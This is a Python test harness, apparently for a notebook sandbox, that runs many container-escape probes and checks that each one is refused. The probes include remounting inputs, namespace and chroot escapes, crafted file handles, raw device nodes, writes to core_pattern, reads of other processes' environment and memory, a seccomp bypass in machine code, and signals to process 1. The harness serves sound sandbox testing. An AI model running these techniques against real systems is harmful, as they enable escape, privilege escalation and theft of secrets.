"""A hostile kernel: tries every way out of its session that its author could think of, and prints one JSON line for
each.

Run inside the sandbox, never outside. Tests import it for `plan`, which tells it of the machine, and for `unexpected`,
which judges what it printed. It needs the standard library alone. A probe returns what it got. The last line counts
them, so that it shows when one has ended the process.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import json
import mmap
import os
import platform
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

INPUT, PLAN = "/kaggle/input/one/a.txt", "/kaggle/input/one/plan.json"
SECRET = "host-secret-5b1f"  # the value of a variable and of a key of the machine
KEY = "hubmap-canary"
FACTS: dict[str, Any] = {}  # of the machine: a file of its own, the input's number on its disk, the disk
libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
# name: (x86_64, aarch64)
CALLS = {
    "ptrace": (101, 117),
    "process_vm_readv": (310, 270),
    "pivot_root": (155, 41),
    "keyctl": (250, 219),
    "add_key": (248, 217),
    "bpf": (321, 280),
    "perf_event_open": (298, 241),
    "userfaultfd": (323, 282),
    "io_uring_setup": (425, 425),
    "name_to_handle_at": (303, 264),
    "open_by_handle_at": (304, 265),
    "clone": (56, 220),
    "clone3": (435, 435),
    "open_tree": (428, 428),
    "fsopen": (430, 430),
    "mount_setattr": (442, 442),
    "pidfd_getfd": (438, 438),
    "init_module": (175, 105),
    "kexec_load": (246, 104),
    "reboot": (169, 142),
    "swapon": (167, 224),
    "acct": (163, 89),
    "shmget": (29, 194),
    "fallocate": (285, 47),
    "syslog": (103, 116),
    "settimeofday": (164, 170),
    "kcmp": (312, 272),
    "unshare": (272, 97),
    "setns": (308, 268),
    "quotactl": (179, 60),
}
RDONLY, REMOUNT, BIND, REC, DETACH = 1, 32, 4096, 16384, 2
NEW = {
    "mount": 0x20000,
    "user": 0x10000000,
    "pid": 0x20000000,
    "net": 0x40000000,
    "ipc": 0x8000000,
    "uts": 0x4000000,
    "cgroup": 0x2000000,
}
PROBES: dict[str, Callable[[], Any]] = {}


def probe(function: Callable[[], Any]) -> Callable[[], Any]:
    PROBES[function.__name__] = function
    return function


def checked(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def call(name: str, *arguments: Any) -> int:
    numbers = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    return checked(libc.syscall(ctypes.c_long(CALLS[name][0 if X86 else 1]), *numbers))


def mount(source: str | None, target: str, kind: str | None, flags: int = 0, options: str | None = None) -> int:
    names = [text and text.encode() for text in (source, target, kind, options)]
    return checked(libc.mount(*names[:3], ctypes.c_ulong(flags), names[3]))


def answers(attempts: dict[str, Callable[[], Any]]) -> dict[str, Any]:
    """What each attempt got: its value, or the name of its error."""
    return {name: attempt(function) for name, function in attempts.items()}


def attempt(function: Callable[[], Any]) -> Any:
    try:
        return function()
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, type(error).__name__)
    except ValueError:  # so Python calls a limit that may not be raised
        return "EPERM"


def in_child(function: Callable[[], Any]) -> Any:
    """The answer of an attempt that would change this process."""
    reader, writer = os.pipe()
    if (pid := os.fork()) == 0:
        try:
            os.write(writer, json.dumps(attempt(function)).encode())
        finally:
            os._exit(0)
    os.close(writer)
    with open(reader, "rb") as file:
        text = file.read()
    os.waitpid(pid, 0)
    return json.loads(text) if text else "died"


def write(path: str, text: bytes = b"hostile") -> str:
    with open(path, "r+b" if os.path.isfile(path) else "wb", buffering=0) as file:
        file.write(text)
    return "written"


def opens(path: str, flags: int = os.O_WRONLY) -> str:
    os.close(os.open(path, flags))
    return "opened"


def holds_secret(data: bytes) -> str:
    return "secret" if SECRET.encode() in data else "nothing"


def others() -> list[str]:
    return [pid for pid in os.listdir("/proc") if pid.isdecimal() and int(pid) != os.getpid()]


# ---------------------------------------------------------------- what it is


@probe
def privileges() -> Any:
    """Whatever is not zero here is a way to all that follows."""
    lines = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    return {
        name: lines[name].strip()
        for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp", "Groups")
    }


@probe
def privileges_of_a_setuid_program() -> Any:
    """A program that runs with its owner's rights."""
    found = []
    for name in ("su", "mount", "newuidmap", "sudo", "passwd"):
        for folder in ("/usr/bin", "/bin"):
            if os.path.exists(f"{folder}/{name}"):
                found.append(f"{folder}/{name}")
    own = Path("/tmp/own")
    own.write_bytes(Path(sys.executable).resolve().read_bytes())
    own.chmod(0o6755)
    code = "print(next(line.split()[1] for line in open('/proc/self/status') if line.startswith('CapEff')))"
    done = subprocess.run(
        [str(own), "-S", "-c", code], capture_output=True, text=True, check=False, env={"PYTHONHOME": sys.base_prefix}
    )
    own.unlink()
    return (done.stdout or done.stderr).strip()


@probe
def descriptors() -> Any:
    """A descriptor that was left open leads out."""
    return [
        os.readlink(f"/proc/self/fd/{number}") for number in range(3, 256) if os.path.lexists(f"/proc/self/fd/{number}")
    ]


@probe
def user() -> Any:
    """Code that asks expects root, as on Kaggle."""
    return [os.getuid(), os.geteuid(), os.getgid()]


# ---------------------------------------------------------------- the inputs and the machine's files


@probe
def write_to_inputs() -> Any:
    paths = (INPUT, "/kaggle/input/new", "/usr/new", "/opt/image/new", "/opt/hook/new")
    return answers({path: lambda path=path: write(path) for path in paths})


@probe
def replace_the_hook_or_the_script() -> Any:
    paths = ("/opt/hook/rehearsal_hook.py", "/kaggle/src/script.py")
    attempts = {path: lambda path=path: [write(path), os.unlink(path)] for path in paths}
    return answers(attempts | {"rename": lambda: os.rename("/opt/hook", "/opt/hooks")})


@probe
def remount_inputs() -> Any:
    """The first attack that worked: the mount turns writable, and the machine's file changes."""
    places = ("/kaggle/input", "/kaggle/input/one", INPUT, "/usr", "/opt/image", "/")
    return answers(
        {place: lambda place=place: [mount("none", place, None, REMOUNT | BIND), write(INPUT)] for place in places}
    )


@probe
def unmount_and_cover() -> Any:
    return answers(
        {
            "umount": lambda: checked(libc.umount2(b"/kaggle/input/one", DETACH)),
            "umount all": lambda: checked(libc.umount2(b"/kaggle/input", DETACH)),
            "tmpfs": lambda: mount("none", "/mnt" if os.path.isdir("/mnt") else "/tmp", "tmpfs"),
            "proc": lambda: mount("none", "/tmp", "proc"),
            "sysfs": lambda: mount("none", "/tmp", "sysfs"),
            "overlay": lambda: mount("none", "/tmp", "overlay", 0, "lowerdir=/usr:/kaggle/input"),
            "bind": lambda: [
                mount("/kaggle/input/one", "/tmp", None, BIND | REC),
                mount("none", "/tmp", None, REMOUNT | BIND),
                write("/tmp/a.txt"),
            ],
        }
    )


@probe
def new_mount_calls() -> Any:
    path = ctypes.c_char_p(b"/kaggle/input/one")
    clear = ctypes.create_string_buffer(struct.pack("QQQQ", 0, 1, 0, 0))
    return answers(
        {
            "open_tree": lambda: call("open_tree", -100, path, 1),
            "fsopen": lambda: call("fsopen", ctypes.c_char_p(b"tmpfs"), 0),
            "mount_setattr": lambda: call("mount_setattr", -100, path, 0x8000, clear, 32),
        }
    )


def _in_new_namespaces() -> Any:
    call("unshare", NEW["user"] | NEW["mount"])
    Path("/proc/self/setgroups").write_text("deny")
    Path("/proc/self/uid_map").write_text("0 0 1")
    Path("/proc/self/gid_map").write_text("0 0 1")
    return answers(
        {
            "remount": lambda: [mount("none", "/kaggle/input/one", None, REMOUNT | BIND), write(INPUT)],
            "umount": lambda: checked(libc.umount2(b"/kaggle/input/one", DETACH)),
            "cover": lambda: mount("none", "/opt", "tmpfs"),
        }
    )


@probe
def capabilities_again_in_a_new_user_namespace() -> Any:
    return in_child(_in_new_namespaces)


@probe
def new_namespaces() -> Any:
    def cloned(flag: int) -> str:
        pid = call("clone", flag | signal.SIGCHLD, 0, 0, 0, 0)
        if not pid:
            os._exit(0)
        os.waitpid(pid, 0)
        return "cloned"

    def cloned3(flag: int) -> str:
        pid = call(
            "clone3", ctypes.create_string_buffer(struct.pack("QQQQQQQQ", flag, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)), 64
        )
        if not pid:
            os._exit(0)
        os.waitpid(pid, 0)
        return "cloned"

    attempts = {
        f"unshare {name}": lambda flag=flag: in_child(lambda: call("unshare", flag)) for name, flag in NEW.items()
    }
    attempts |= {f"clone {name}": lambda flag=flag: cloned(flag) for name, flag in NEW.items()}
    return answers(attempts | {"clone3 user": lambda: cloned3(NEW["user"])})


@probe
def raise_the_limit_on_namespaces() -> Any:
    return attempt(lambda: write("/proc/sys/user/max_user_namespaces", b"100"))


@probe
def namespaces_of_process_1() -> Any:
    def entered(kind: str) -> Any:
        return call("setns", os.open(f"/proc/1/ns/{kind}", os.O_RDONLY), 0)

    def by_pid(flag: int) -> Any:
        return call("setns", os.pidfd_open(1), flag)

    kinds = ("mnt", "user", "pid", "net", "ipc", "uts", "cgroup")
    attempts = {kind: lambda kind=kind: in_child(lambda: entered(kind)) for kind in kinds}
    return answers(attempts | {"pidfd": lambda: in_child(lambda: by_pid(NEW["mount"]))})


@probe
def roots_of_other_processes() -> Any:
    """`/proc/N/root`, `cwd` and `fd` lead into the file system of process N."""
    found = {}
    for pid in others():
        attempts = {
            link: lambda link=link, pid=pid: os.path.exists(f"/proc/{pid}/{link}/..{FACTS['file']}")
            for link in ("root", "cwd")
        }
        attempts |= {"list": lambda pid=pid: len(os.listdir(f"/proc/{pid}/root/"))}
        found[pid] = answers(attempts) | {"fds": attempt(lambda pid=pid: _opened(pid))}
    return found


def _opened(pid: str) -> list[str]:
    places = []
    for name in os.listdir(f"/proc/{pid}/fd"):
        with contextlib.suppress(OSError):
            places.append(os.readlink(f"/proc/{pid}/fd/{name}"))
            with contextlib.suppress(OSError):
                os.close(os.open(f"/proc/{pid}/fd/{name}", os.O_RDONLY | os.O_NONBLOCK))
                places[-1] += " opened"
    return places


@probe
def chroot() -> Any:
    """The classic way out: a root below the folder that one stands in."""

    def out() -> Any:
        os.makedirs("/tmp/jail", exist_ok=True)
        os.chroot("/tmp/jail")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return os.path.exists(FACTS["file"])

    return in_child(out)


@probe
def pivot_root() -> Any:
    return in_child(lambda: call("pivot_root", ctypes.c_char_p(b"/tmp"), ctypes.c_char_p(b"/tmp")))


@probe
def dotdot() -> Any:
    return [
        os.path.exists("/.." * 40 + FACTS["file"]),
        os.path.exists("/proc/self/root" + FACTS["file"]),
        os.path.exists(FACTS["file"]),
    ]


@probe
def file_handles() -> Any:
    """`open_by_handle_at` opens any file of a mounted file system by its number, whatever is bound of it."""

    def crafted(number: int) -> str:
        handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, number, 0))
        descriptor = call("open_by_handle_at", os.open("/kaggle/input/one/a.txt", os.O_RDONLY), handle, os.O_RDONLY)
        return f"opened {os.readlink(f'/proc/self/fd/{descriptor}')}"

    return answers({"root of the disk": lambda: crafted(2), "the file": lambda: crafted(FACTS["inode"])})


@probe
def devices() -> Any:
    """The disk itself."""
    disk = os.makedev(*FACTS["disk"])

    def made(kind: int, device: int, folder: str) -> str:
        path = f"{folder}/device"
        os.mknod(path, kind | 0o600, device)
        try:
            return opens(path, os.O_RDONLY)
        finally:
            os.unlink(path)

    folders, known = (
        ("/tmp", "/kaggle/working", "/dev/shm"),
        {"mem", "kmem", "port", "vda", "sda", "nvme0n1", "kmsg", "fuse", "kvm"},
    )
    attempts = {f"disk in {folder}": lambda folder=folder: made(stat.S_IFBLK, disk, folder) for folder in folders}
    attempts |= {"memory": lambda: made(stat.S_IFCHR, os.makedev(1, 1), "/tmp"), "kmsg": lambda: opens("/dev/kmsg")}
    return answers(attempts | {"listed": lambda: sorted(set(os.listdir("/dev")) & known)})


@probe
def settings_of_the_machine() -> Any:
    """As the machine's root one may write these without any capability: `core_pattern` names a program that its kernel
    starts.
    """
    paths = (
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/vm/overcommit_memory",
        "/proc/sys/fs/file-max",
        "/proc/sysrq-trigger",
        "/proc/sys/net/ipv4/ip_forward",
        "/proc/irq/default_smp_affinity",
        "/sys/kernel/uevent_helper",
        "/sys/kernel/mm/transparent_hugepage/enabled",
        "/sys/power/state",
        "/sys/fs/cgroup/cgroup.procs",
        "/sys/fs/cgroup/memory/cgroup.procs",
        "/proc/self/oom_score_adj",
    )
    read = answers({path: lambda path=path: opens(path, os.O_RDONLY) for path in ("/proc/kcore", "/proc/kmsg")})
    return read | answers({path: lambda path=path: opens(path) for path in paths})


@probe
def calls_for_the_administrator() -> Any:
    one = ctypes.create_string_buffer(64)
    return answers(
        {
            "sethostname": lambda: socket.sethostname("hostile"),
            "settimeofday": lambda: call("settimeofday", one, 0),
            "init_module": lambda: call("init_module", one, 64, one),
            "kexec": lambda: call("kexec_load", 0, 0, 0, 0),
            "reboot": lambda: call("reboot", 0, 0, 0, 0),
            "swapon": lambda: call("swapon", ctypes.c_char_p(b"/tmp/x"), 0),
            "acct": lambda: call("acct", 0),
            "syslog": lambda: call("syslog", 3, one, 64),
            "quotactl": lambda: call("quotactl", 0x80000200, ctypes.c_char_p(b"/dev/vda"), 0, one),
            "chown": lambda: os.chown("/tmp", 12345, 12345),
            "setuid": lambda: in_child(lambda: os.setresuid(12345, 12345, 12345)),
            "setgroups": lambda: in_child(lambda: os.setgroups([0])),
        }
    )


# ---------------------------------------------------------------- other processes and what they know


@probe
def environments() -> Any:
    """The second attack that worked: the variables of whoever started the session, with their tokens."""

    def held(pid: str, name: str) -> Any:
        return attempt(lambda: holds_secret(Path(f"/proc/{pid}/{name}").read_bytes()))

    return {pid: {name: held(pid, name) for name in ("environ", "cmdline")} for pid in others()}


@probe
def own_environment() -> Any:
    return [holds_secret(Path("/proc/self/environ").read_bytes()), holds_secret(json.dumps(dict(os.environ)).encode())]


@probe
def command_lines() -> Any:
    return {
        pid: attempt(lambda pid=pid: Path(f"/proc/{pid}/cmdline").read_bytes().decode().split("\0")) for pid in others()
    }


@probe
def memory_of_process_1() -> Any:
    """Its specification, its log, its descriptors."""
    local, remote = ctypes.create_string_buffer(8), ctypes.c_void_p(id(libc) & ~0xFFF)
    places = [
        ctypes.create_string_buffer(struct.pack("PP", address, 8))
        for address in (ctypes.addressof(local), remote.value)
    ]
    return answers(
        {
            "mem": lambda: opens("/proc/1/mem", os.O_RDWR),
            "maps": lambda: bool(Path("/proc/1/maps").read_bytes()),
            "attach": lambda: call("ptrace", 16, 1, 0, 0),
            "seize": lambda: call("ptrace", 0x4206, 1, 0, 0),
            "readv": lambda: call("process_vm_readv", 1, places[0], 1, places[1], 1, 0),
            "pidfd_getfd": lambda: call("pidfd_getfd", os.pidfd_open(1), 3, 0),
            "auxv": lambda: bool(Path("/proc/1/auxv").read_bytes()),
            "stack": lambda: bool(Path("/proc/1/stack").read_bytes()),
            "kcmp": lambda: call("kcmp", os.getpid(), 1, 0, 0, 3),
        }
    )


@probe
def keys() -> Any:
    """Keyrings outlast namespaces: tickets and tokens of the user lie there."""

    def key(ring: int) -> str:
        found = call("keyctl", 10, ring, ctypes.c_char_p(b"user"), ctypes.c_char_p(KEY.encode()), 0)
        text = ctypes.create_string_buffer(256)
        call("keyctl", 11, found, text, 256)
        return holds_secret(text.raw)

    rings = {"session": -3, "user": -4, "user session": -5}
    texts = [ctypes.c_char_p(text) for text in (b"user", b"mine", b"x")]
    return answers(
        {name: lambda ring=ring: key(ring) for name, ring in rings.items()}
        | {"add": lambda: call("add_key", *texts, 1, -4)}
    )


@probe
def wide_calls() -> Any:
    """Calls that are the usual way to a fault of the machine's kernel, or around a filter of calls."""
    attributes = ctypes.create_string_buffer(struct.pack("II", 1, 128) + bytes(120))
    program = ctypes.create_string_buffer(struct.pack("QQ", 0x00000000000000B7, 0x95))
    facts = (1, 2, ctypes.addressof(program), ctypes.addressof(attributes), 0, 0)
    bpf = ctypes.create_string_buffer(struct.pack("IIQQII", *facts) + bytes(88))
    return answers(
        {
            "io_uring": lambda: call("io_uring_setup", 4, ctypes.create_string_buffer(120)),
            "bpf": lambda: call("bpf", 5, bpf, 120),
            "perf": lambda: call("perf_event_open", attributes, 0, -1, -1, 0),
            "userfaultfd": lambda: call("userfaultfd", 0),
            "shmget": lambda: call("shmget", 0, 4096, 0o1600),
            "fallocate": lambda: call("fallocate", os.open("/tmp/all", os.O_CREAT | os.O_RDWR), 0, 0, 1 << 20),
        }
    )


@probe
def calls_of_another_form() -> Any:
    """A filter that knows one form of system calls alone lets the others through: unshare as a program of 32 bits has
    it, and as x32.
    """
    if not X86:
        return {}
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(
        b"\x53\xbb\x00\x00\x02\x00\xb8\x36\x01\x00\x00\xcd\x80\x5b\xc3"
    )  # push rbx; ebx = NEWNS; eax = 310; int 0x80; pop rbx; ret
    old = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    x32 = ctypes.c_long(CALLS["unshare"][0] | 0x40000000), ctypes.c_long(NEW["mount"])
    return {
        "32 bits": in_child(lambda: errno.errorcode.get(-old(), "done")),
        "x32": in_child(lambda: checked(libc.syscall(*x32))),
    }


@probe
def sockets() -> Any:
    """Families that no network namespace holds back: AF_VSOCK talks to the host of a virtual machine."""
    families = {
        "vsock": 40,
        "packet": 17,
        "alg": 38,
        "bluetooth": 31,
        "can": 29,
        "tipc": 30,
        "xdp": 44,
        "qrtr": 42,
        "kcm": 41,
    }
    kinds = dict.fromkeys(("packet", "can", "xdp", "bluetooth"), socket.SOCK_RAW) | {
        "alg": socket.SOCK_SEQPACKET,
        "qrtr": socket.SOCK_DGRAM,
    }
    asked = [(name, number, kinds.get(name, socket.SOCK_STREAM)) for name, number in families.items()]
    attempts = {
        name: lambda number=number, kind=kind: bool(socket.socket(number, kind)) for name, number, kind in asked
    }
    return answers(attempts | {"raw": lambda: bool(socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))})


@probe
def routes() -> Any:
    """A default route over `lo` would swallow the packets that are counted."""

    def routed() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            name = ctypes.create_string_buffer(b"lo")
            anywhere = struct.pack("HH4s8x", socket.AF_INET, 0, bytes(4))
            device = struct.pack("HhQBxxxxxxxhxxxxxxPQQH", 1, 0, 0, 0, 0, ctypes.addressof(name), 0, 0, 0)
            fcntl.ioctl(one, 0x890B, (bytes(8) + 3 * anywhere + device).ljust(120, b"\0"))
        return "routed"

    def down() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            fcntl.ioctl(one, 0x8914, struct.pack("16sh14x", b"lo", 0))
        return "down"

    return answers({"route": routed, "lo down": down})


@probe
def names_of_hosts() -> Any:
    """A name that is answered inside is never looked up outside."""
    names = ("hosts", "resolv.conf", "nsswitch.conf", "new")
    return answers({name: lambda name=name: write(f"/etc/{name}", b"") for name in names})


# ---------------------------------------------------------------- the records


@probe
def record_of_the_network() -> Any:
    """The fourth attack that worked: notes are taken back.

    What is asked for here must be in the record all the same.
    """
    with contextlib.suppress(OSError):
        socket.create_connection(("203.0.113.77", 4443), 0.2)
    with contextlib.suppress(OSError):
        socket.getaddrinfo("swallowed.example.org", 80)
    found = {}
    for folder in ("/rehearsal", "/run/rehearsal"):
        for name in sorted(os.listdir(folder)) if os.path.isdir(folder) else []:
            path = f"{folder}/{name}"
            found[name] = answers(
                {
                    "empty": lambda path=path: opens(path, os.O_WRONLY | os.O_TRUNC),
                    "move": lambda path=path: os.rename(path, path + ".gone"),
                    "remove": lambda path=path: os.unlink(path),
                    "mode": lambda path=path: os.chmod(path, 0),
                }
            )
        if os.path.isdir(folder):
            found[folder] = answers(
                {
                    "move": lambda folder=folder: os.rename(folder, "/gone"),
                    "new": lambda folder=folder: write(f"{folder}/new"),
                    "mode": lambda folder=folder: os.chmod(folder, 0),
                }
            )
    return found


@probe
def forged_notes() -> Any:
    """Notes that are no notes must neither break nor push out the true ones."""
    forged = b'{"event": "", "host": "a\\nFAIL forged", "line": "\\u001b[2J"}'
    for text in (b"x" * 100000, b"[]", b"{", b"\xff\0", b'{"host": 5}', forged, b"null", b'{"host": []}', b"[" * 4000):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
            one.sendto(text, "/rehearsal/notes")
    for number in range(3000):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
            one.sendto(
                json.dumps({"event": "", "host": f"{number}.example.com", "line": "forged"}).encode(),
                "/rehearsal/notes",
            )
    return "sent"


@probe
def own_log() -> Any:
    """What was printed cannot be taken back."""
    return answers(
        {
            "truncate": lambda: os.ftruncate(1, 0),
            "seek": lambda: os.lseek(1, 0, os.SEEK_SET),
            "place": lambda: os.readlink("/proc/self/fd/1"),
            "open": lambda: opens("/proc/self/fd/1", os.O_WRONLY | os.O_TRUNC),
            "read": lambda: opens("/proc/self/fd/1", os.O_RDONLY | os.O_NONBLOCK),
        }
    )


# ---------------------------------------------------------------- limits


@probe
def higher_limits() -> Any:
    def raised(name: str) -> str:
        number = getattr(resource, f"RLIMIT_{name}")
        resource.setrlimit(number, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        return "raised"

    attempts = {name: lambda name=name: in_child(lambda: raised(name)) for name in ("NPROC", "CORE")}
    return answers(
        attempts
        | {
            "nice": lambda: in_child(lambda: os.nice(-5)),
            "real time": lambda: in_child(lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1))),
            "limits of 1": lambda: (
                resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (3, 3)) if os.getppid() == 1 else "no"
            ),
            "pages": lambda: opens("/proc/sys/vm/nr_hugepages"),
        }
    )


@probe
def sizes() -> Any:
    """Everything that can be written to, with its size in bytes and in files."""
    found = {}
    for line in Path("/proc/self/mountinfo").read_text().splitlines():
        fields = line.split(" ")
        if "ro" not in fields[5].split(",") and os.path.isdir(fields[4]) and os.access(fields[4], os.W_OK):
            facts = os.statvfs(fields[4])
            found[fields[4]] = [fields[fields.index("-") + 1], facts.f_blocks * facts.f_frsize, facts.f_files]
    return found


@probe
def writable_places() -> Any:
    """Every folder that takes a new file, wherever it is."""
    found, left = [], ["/"]
    while left:
        folder = left.pop()
        with contextlib.suppress(OSError):
            (Path(folder) / ".new").touch()
            (Path(folder) / ".new").unlink()
            found.append(folder)
        with contextlib.suppress(OSError):
            left += [
                entry.path
                for entry in os.scandir(folder)
                if entry.is_dir(follow_symlinks=False)
                and entry.path.count("/") < 4
                and not entry.path.startswith(("/usr", "/proc", "/sys", "/lib", sys.base_prefix))
            ]
    return sorted(found)


@probe
def moved_folders() -> Any:
    """Whoever reads /kaggle/working afterwards would read something else."""
    return answers(
        {
            "kaggle": lambda: os.rename("/kaggle", "/kaggled"),
            "working": lambda: os.rename("/kaggle/working", "/kaggle/worked"),
            "mode": lambda: os.chmod("/", 0),
            "tmp": lambda: os.rename("/tmp", "/tmps"),
        }
    )


# ---------------------------------------------------------------- what it leaves behind


@probe
def output() -> Any:
    """Links to the machine's files, devices, pipes, a setuid program, names that break lines, a file larger than any
    disk.
    """
    os.chdir("/kaggle/working")
    os.makedirs("folder")
    way_out = "../" * 40 + FACTS["file"].lstrip("/")
    return answers(
        {
            "absolute": lambda: os.symlink(FACTS["file"], "absolute"),
            "relative": lambda: os.symlink(way_out, "folder/relative"),
            "folder": lambda: os.symlink("/etc", "etc"),
            "proc": lambda: os.symlink("/proc/self/root", "proc"),
            "inner": lambda: os.symlink("folder", "inner"),
            "chain": lambda: os.symlink(f"inner/../{way_out}", "chain"),
            "hard": lambda: os.link(INPUT, "hard"),
            "hard script": lambda: os.link("/kaggle/src/script.py", "hard2"),
            "pipe": lambda: os.mkfifo("pipe"),
            "socket": lambda: socket.socket(socket.AF_UNIX).bind("socket"),
            "device": lambda: os.mknod("null", stat.S_IFCHR | 0o666, os.makedev(1, 3)),
            "setuid": lambda: [Path("setuid").write_bytes(b"#!/bin/sh\n"), os.chmod("setuid", 0o6755)],
            "newline": lambda: write("a\nPASS forged"),
            "escape": lambda: write("a\x1b[2J"),
            "bytes": lambda: write(b"\xff\xfe"),
            "dots": lambda: write("..."),
            "sparse": lambda: os.truncate(os.open("sparse", os.O_CREAT | os.O_RDWR), 1 << 50),
            "closed": lambda: [
                os.mkdir("closed"),
                write("closed/file"),
                os.chmod("closed/file", 0),
                os.chmod("closed", 0),
            ],
            "good": lambda: write("folder/good.txt", b"good"),
            "many links": lambda: (
                [write("big", bytes(1 << 20)), *(os.link("big", f"folder/{number}") for number in range(200))]
                and "made"
            ),
        }
    )


@probe
def deep_output() -> Any:
    """Deeper than a recursion or a path may be."""
    os.mkdir("/kaggle/working/deep")
    folder = os.open("/kaggle/working/deep", os.O_RDONLY)
    for _ in range(3000):
        os.mkdir("d", dir_fd=folder)
        deeper = os.open("d", os.O_RDONLY, dir_fd=folder)
        os.close(folder)
        folder = deeper
    os.mkdir("/tmp/closed")
    Path("/tmp/closed/file").touch()
    os.chmod("/tmp/closed", 0)
    return "made"


@probe
def signals_to_process_1() -> Any:
    """Whoever ends the watcher is watched no more."""
    names = ("KILL", "STOP", "TERM", "INT", "HUP", "SEGV", "USR1", "CHLD", "ALRM")
    attempts = {name: lambda name=name: os.kill(1, getattr(signal, f"SIG{name}")) for name in names}
    found = answers(attempts)
    time.sleep(0.3)
    return found | {"state": Path("/proc/1/stat").read_text().rpartition(") ")[2][0]}


@probe
def processor_time_of_process_1() -> Any:
    """A limit on the processor time of another process of the same user is its end."""
    return attempt(lambda: resource.prlimit(1, resource.RLIMIT_CPU, (0, 0)) and "limited")


REFUSED = set(
    [
        "EPERM",
        "EACCES",
        "EROFS",
        "ENOSPC",
        "ENOENT",
        "ENOSYS",
        "EINVAL",
        "EXDEV",
        "EAFNOSUPPORT",
        "ENOTSUP",
        "ENXIO",
        "ESPIPE",
        "EBUSY",
    ]
)
NOTHING = "0" * 16
# Everything that can be written to: its size in bytes; None for the machine's disk, which the watcher looks at.
CAPACITY = {
    "/root": 2 << 30,
    "/opt/venv": 2 << 30,
    "/dev/shm": 29 << 30,
    "/kaggle/working": 20 << 30,
    "/kaggle/tmp": None,
    "/tmp": None,
}
# What probes may get that are not refused outright.
HARMLESS: dict[str, Callable[[Any], bool]] = {
    "privileges": lambda got: (
        got.pop("NoNewPrivs") == "1"
        and got.pop("Seccomp") == "2"
        and not got.pop("Groups").replace("65534", "").strip()
        and set(got.values()) == {NOTHING}
    ),
    "privileges_of_a_setuid_program": lambda got: got == NOTHING,
    "descriptors": lambda got: got == [],
    "user": lambda got: got == [0, 0, 0],
    "roots_of_other_processes": lambda got: (
        list(got) == ["1"]
        and not (got["1"]["root"] or got["1"]["cwd"])
        and got["1"]["list"] in REFUSED
        and (got["1"]["fds"] == [] or got["1"]["fds"] in REFUSED)
    ),
    "dotdot": lambda got: got == [False] * 3,
    "devices": lambda got: got.pop("listed") == [] and refused(got),
    "environments": lambda got: (
        list(got) == ["1"] and got["1"]["environ"] in REFUSED and got["1"]["cmdline"] == "nothing"
    ),
    "own_environment": lambda got: got == ["nothing"] * 2,
    "command_lines": lambda got: list(got) == ["1"] and got["1"][1:] == ["-I", "-B", "inside", ""],
    "forged_notes": lambda got: got == "sent",
    "sizes": lambda got: (
        got.keys() == CAPACITY.keys()
        and all(
            CAPACITY[path] in (None, size) and (files <= 200_000 or kind != "tmpfs")
            for path, (kind, size, files) in got.items()
        )
    ),
    "writable_places": lambda got: all(path.startswith(tuple(CAPACITY)) for path in got),
    "own_log": lambda got: refused([got["truncate"], got["seek"], got["read"]]) and got["place"].startswith("pipe:"),
    # Without root the kernel is the same user as process 1, which does nothing but wait. A signal does not reach it; a
    # limit may.
    "higher_limits": lambda got: isinstance(got.pop("limits of 1"), (str, list)) and refused(got),
    "signals_to_process_1": lambda got: got["state"] == "S",
    "processor_time_of_process_1": lambda got: got in ("EPERM", "limited"),
    "output": lambda got: refused([got["hard"], got["hard script"], got["device"]]),
    "deep_output": lambda got: got == "made",
}


def refused(got: Any) -> bool:
    """Whether every single answer is an error."""
    if isinstance(got, dict):
        return all(map(refused, got.values()))
    return all(map(refused, got)) if isinstance(got, list) else got in REFUSED


def plan(file: Path, source: Path) -> str:
    """What the kernel must know of the machine: a file that it must not reach, and where the file lies that is its
    input.
    """
    facts = source.stat()
    return json.dumps(
        {"file": str(file), "inode": facts.st_ino, "disk": [os.major(facts.st_dev), os.minor(facts.st_dev)]}
    )


def plant_key() -> None:
    """Put the secret into the session keyring of this process, which children inherit."""
    with contextlib.suppress(OSError):
        call(
            "add_key",
            ctypes.c_char_p(b"user"),
            ctypes.c_char_p(KEY.encode()),
            ctypes.c_char_p(SECRET.encode()),
            len(SECRET),
            -3,
        )


def unexpected(log: str) -> list[str]:
    """The lines of the probes that got something, or that are missing."""
    lines = [json.loads(line) for line in log.splitlines()]
    names = [line["probe"] for line in lines]
    odd = [json.dumps(line) for line in lines[:-1] if not HARMLESS.get(line["probe"], refused)(line["got"])]
    return odd if names == [*PROBES, "end"] else [*odd, f"the probes ended with {names[-1:]}"]


def main() -> None:
    FACTS.update(json.loads(Path(PLAN).read_text()))
    for name, function in PROBES.items():
        try:
            got = attempt(function)
        except Exception as error:
            got = f"{type(error).__name__}: {error}"
        print(json.dumps({"probe": name, "got": got}), flush=True)
    time.sleep(0.5)  # for what comes later than its cause
    print(json.dumps({"probe": "end", "got": len(PROBES)}), flush=True)


if __name__ == "__main__":
    main()
